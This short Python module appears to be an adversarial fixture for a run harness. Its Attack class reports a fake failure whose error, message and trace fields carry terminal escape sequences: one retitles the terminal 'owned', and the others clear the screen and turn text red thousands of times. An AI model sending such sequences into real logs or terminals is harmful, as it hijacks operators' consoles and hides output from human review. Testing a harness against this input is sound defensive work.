"""Reports a failure whose text steers terminals and fills the screen."""

from aim import frame, write

from run import ZEWDPCBaseRun


class Attack(ZEWDPCBaseRun):
    def purchase_phase(self, unlabelled_dataset):
        write(frame({"t": "failed", "error": "\x1b]0;owned\x07", "message": "\x1b[2J" * 2_000, "trace": "\x1b[31m" * 3_000}))
